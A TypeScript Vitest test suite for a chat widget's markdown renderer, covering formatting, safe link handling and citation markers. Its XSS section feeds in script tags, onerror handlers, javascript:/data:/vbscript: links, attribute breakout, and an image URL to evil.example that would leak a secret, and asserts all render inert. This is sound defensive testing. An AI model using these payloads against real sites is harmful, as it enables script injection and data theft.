// @vitest-environment happy-dom
import { Fragment, h, render } from "preact";
import { afterEach, describe, expect, it } from "vitest";
import { decodeEntities } from "../../../widget/src/markdown/inline.js";
import { renderMarkdown } from "../../../widget/src/markdown/markdown.js";
import { XSS_CORPUS, unsafeParts } from "./xss-corpus.js";

function show(markdown: string): HTMLElement {
  const el = document.createElement("div");
  document.body.append(el);
  render(h(Fragment, null, renderMarkdown(markdown)), el);
  return el;
}

const html = (markdown: string) => show(markdown).innerHTML;

afterEach(() => {
  document.body.replaceChildren();
  delete (window as { __pwned?: unknown }).__pwned;
});

describe("markdown renderer: what answers look like", () => {
  it("makes paragraphs, with single newlines as line breaks", () => {
    expect(html("First line\nsecond line\n\nNew paragraph")).toBe("<p>First line<br>second line</p><p>New paragraph</p>");
  });

  it("renders bold, italic and inline code, in Chinese too", () => {
    expect(html("**粗体** and *斜体*, __bold__ _it_ `a < b`")).toBe(
      "<p><strong>粗体</strong> and <em>斜体</em>, <strong>bold</strong> <em>it</em> <code>a &lt; b</code></p>",
    );
  });

  it("leaves underscores inside words and lone stars alone", () => {
    expect(html("snake_case_name and 2 * 3 * 4")).toBe("<p>snake_case_name and 2 * 3 * 4</p>");
  });

  it("renders unordered, ordered and nested lists", () => {
    expect(html("- one\n- **two**\n  - nested\n\n3. third\n4. fourth")).toBe(
      '<ul><li>one</li><li><p><strong>two</strong></p><ul><li>nested</li></ul></li></ul><ol start="3"><li>third</li><li>fourth</li></ol>',
    );
  });

  it("renders fenced code blocks verbatim, also unclosed while streaming", () => {
    expect(html("```js\nconst a = '<b>';\n\n**not bold**\n```\nafter")).toBe(
      "<pre><code data-lang=\"js\">const a = '&lt;b&gt;';\n\n**not bold**</code></pre><p>after</p>",
    );
    expect(html("Look:\n```\nlet x = 1")).toBe("<p>Look:</p><pre><code>let x = 1</code></pre>");
  });

  it("renders headings as bold lines, quotes and rules", () => {
    expect(html("## Title\n> quoted *text*\n\n---")).toBe(
      '<p class="h"><strong>Title</strong></p><blockquote><p>quoted <em>text</em></p></blockquote><hr>',
    );
  });

  it("links http, https and mailto in a new tab without opener, referrer or endorsement", () => {
    const el = show("[docs](https://example.com/a_(b)) <mailto:help@example.com> see http://example.com/x, ok");
    const links = Array.from(el.querySelectorAll("a"));
    expect(links.map((a) => [a.getAttribute("href"), a.textContent])).toEqual([
      ["https://example.com/a_(b)", "docs"],
      ["mailto:help@example.com", "mailto:help@example.com"],
      ["http://example.com/x", "http://example.com/x"],
    ]);
    for (const a of links) {
      expect(a.getAttribute("target")).toBe("_blank");
      expect(a.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    }
    expect(el.textContent).toContain("http://example.com/x, ok");
  });

  it("keeps CJK punctuation out of bare links", () => {
    const el = show("请访问 https://example.com/帮助。谢谢");
    expect(el.querySelector("a")!.getAttribute("href")).toBe("https://example.com/%E5%B8%AE%E5%8A%A9");
    expect(el.querySelector("a")!.textContent).toBe("https://example.com/帮助");
  });

  it("shows raw HTML as the text it is", () => {
    const el = show("Use <b>bold</b> & <i>x</i>");
    expect(el.querySelector("b, i")).toBeNull();
    expect(el.textContent).toBe("Use <b>bold</b> & <i>x</i>");
  });

  it("decodes character references into text only", () => {
    expect(decodeEntities("&lt;b&gt; &amp;amp; &#20013;&#x6587; &#0; &#xD800; &bogus;")).toBe("<b> &amp; 中文 \ufffd \ufffd &bogus;");
  });
});

describe("markdown renderer against an XSS corpus", () => {
  it.each(XSS_CORPUS)("%j renders only safe elements", (payload) => {
    const el = show(payload);
    expect(unsafeParts(el)).toEqual([]);
    expect((window as { __pwned?: unknown }).__pwned).toBeUndefined();
  });

  it("shows the hostile text to the visitor instead of running it", () => {
    const el = show("<script>window.__pwned = 1</script> and <img src=x onerror=alert(1)>");
    expect(el.textContent).toBe("<script>window.__pwned = 1</script> and <img src=x onerror=alert(1)>");
  });

  it("turns a link with a refused scheme into its text", () => {
    for (const payload of [
      "[click me](javascript:alert(1))",
      "[click me](data:text/html,x)",
      "[click me](vbscript:x)",
      "[click me](javascript&#58;alert(1))",
    ]) {
      const el = show(payload);
      expect(el.querySelector("a")).toBeNull();
      expect(el.textContent).toBe("click me");
    }
  });

  it("does not load images: an image becomes a safe link to it", () => {
    const el = show("![pixel](https://evil.example/leak?q=secret)");
    expect(el.querySelector("img")).toBeNull();
    expect(el.querySelector("a")!.getAttribute("href")).toBe("https://evil.example/leak?q=secret");
  });

  it("keeps attribute text inside the attribute", () => {
    const el = show('[x](https://ok.example/a"onclick=alert(1)//)');
    const a = el.querySelector("a")!;
    expect(a.getAttribute("onclick")).toBeNull();
    expect(a.getAttribute("href")).toBe("https://ok.example/a%22onclick=alert(1)//");
  });

  it("stays fast on pathological input", () => {
    const started = performance.now();
    show(`${"*_`[".repeat(2000)}\n${"- ".repeat(500)}x\n${"> ".repeat(50)}deep`);
    // A generous bound: catastrophic backtracking would take seconds.
    expect(performance.now() - started).toBeLessThan(3000);
  });
});

describe("markdown renderer: citation markers", () => {
  const cite = (n: number, key: string) => (n <= 2 ? h("sup", { key }, `s${n}`) : null);
  const cited = (markdown: string) => {
    const el = document.createElement("div");
    render(h(Fragment, null, renderMarkdown(markdown, cite)), el);
    return el.innerHTML;
  };

  it("become the caller's element for a cited number, in paragraphs, lists, quotes and emphasis", () => {
    expect(cited("Open [1], **closed [2]**")).toBe("<p>Open <sup>s1</sup>, <strong>closed <sup>s2</sup></strong></p>");
    expect(cited("- a [1]\n\n> b【2】")).toBe("<ul><li>a <sup>s1</sup></li></ul><blockquote><p>b<sup>s2</sup></p></blockquote>");
    expect(cited("Both [1][2] and [2, 1]")).toBe("<p>Both <sup>s1</sup><sup>s2</sup> and <sup>s2</sup><sup>s1</sup></p>");
  });

  it("stay text for numbers not cited, in code, as a link's text, and without a caller", () => {
    expect(cited("See [9] and [1, 9] and [8, 9]")).toBe("<p>See [9] and <sup>s1</sup>[9] and [8, 9]</p>");
    expect(cited("`a[1]`")).toBe("<p><code>a[1]</code></p>");
    expect(cited("[1](https://example.com/)")).toBe(
      '<p><a href="https://example.com/" target="_blank" rel="noopener noreferrer nofollow">1</a></p>',
    );
    expect(html("Open [1] and [1, 2]")).toBe("<p>Open [1] and [1, 2]</p>");
  });
});
